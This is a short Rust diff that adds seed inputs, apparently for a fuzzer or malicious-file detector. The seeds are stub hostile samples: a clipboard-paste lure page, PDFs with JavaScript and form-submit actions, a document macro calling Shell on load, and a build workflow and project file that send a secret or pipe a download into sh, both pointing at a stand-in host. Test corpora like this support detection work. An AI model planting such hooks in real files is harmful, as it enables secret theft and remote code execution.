@@ -40,6 +40,8 @@ fn seeds() -> Vec<Vec<u8>> {
         plist("x", "/x"),
         "<!doctype html><html><p>Win + R, 粘贴</p><button data-k='eA==' onclick=\"a('>')\">x</button><script>const t=rd(e.dataset.k);navigator.clipboard.writeText(t)</script></html>".into(),
         b"%PDF-1.7\n1 0 obj<</AA<</C<</S/JavaScript/JS(event.value = this.getField\\('a'\\).value)>>>>>>endobj\n".to_vec(),
+        "<office:document xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0'><ooo:libraries><script:module script:name='A' script:language='StarBasic'>Shell(\"a\")</script:module></ooo:libraries><script:event-listener script:event-name='dom:load' xlink:href='vnd.sun.star.script:A.A'/></office:document>".into(),
+        b"%PDF-1.7\n1 0 obj<</FT/Tx/T(a)/TU<FEFF007300650065006400200070>>>endobj 2 0 obj<</S/#53ubmitForm/F(https://a.invalid)>>endobj\n".to_vec(),
         zip(&[
             (".github/workflows/a.yml", b"jobs:\n  a:\n    steps:\n      - run: curl -d ${{ secrets.A }} https://a.invalid\n".to_vec()),
             ("a.csproj", b"<Project><Exec Command=\"curl https://a.invalid | sh\"/></Project>".to_vec()),
